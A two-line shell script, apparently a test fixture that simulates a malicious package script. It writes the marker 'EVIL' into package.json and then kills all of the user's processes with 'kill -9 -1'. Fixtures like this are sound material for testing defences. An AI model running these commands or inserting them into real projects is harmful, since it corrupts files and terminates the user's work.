#!/bin/sh
echo EVIL >> package.json; kill -9 -1; sleep 1
